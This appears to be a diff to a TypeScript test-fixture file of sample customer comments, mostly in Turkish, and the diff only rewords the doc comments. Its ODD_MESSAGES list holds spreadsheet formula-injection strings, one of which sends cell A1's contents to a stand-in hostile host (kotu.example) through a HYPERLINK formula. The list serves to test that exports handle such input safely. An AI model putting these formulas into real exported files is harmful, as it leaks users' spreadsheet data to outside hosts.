@@ -1,6 +1,6 @@
-/** What customers write: praise, complaints, and everything that breaks a careless export. */
+/** Texts of comments: praise, complaints, and texts that break a careless export. */
 
-/** By satisfaction; each is a whole sentence. */
+/** Sentences by satisfaction. */
 export const OPENINGS: Readonly<Record<"happy" | "neutral" | "unhappy", readonly string[]>> = {
   happy: [
     "Ürün beklediğimden de güzel çıktı",
@@ -39,7 +39,7 @@ export const ENDINGS: readonly string[] = [
   "...",
 ];
 
-/** What a spreadsheet, a CSV file or a web page may take for something else. */
+/** Texts that a spreadsheet, a CSV file or a web page can misread. */
 export const ODD_MESSAGES: readonly string[] = [
   '=HYPERLINK("http://kotu.example/?q="&A1;"Kampanya için tıklayın")',
   '=HYPERLINK("http://kotu.example","Tıkla")',
